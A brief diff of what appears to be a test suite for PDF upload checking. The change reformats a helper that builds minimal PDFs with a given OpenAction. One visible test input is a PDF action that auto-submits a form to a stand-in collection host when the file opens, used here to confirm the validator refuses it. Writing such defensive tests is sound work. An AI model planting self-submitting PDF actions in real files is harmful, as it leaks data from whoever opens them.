@@ -72,7 +72,8 @@ describe('PDF uploads are checked by parsing them (SECURITY.md)', () => {
 
   describe('also refuses what sends data away, opens other files or carries attachments (SECURITY.md)', () => {
     /** A one-object PDF whose catalogue opens with the given action (written as a viewer reads it). */
-    const opening = (action: string) => Buffer.from(`%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << ${action} >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`, 'latin1');
+    const opening = (action: string) =>
+      Buffer.from(`%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << ${action} >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`, 'latin1');
 
     it.each([
       ['a form that submits itself', '/S /SubmitForm /F (https://collect.example.org/form)'],
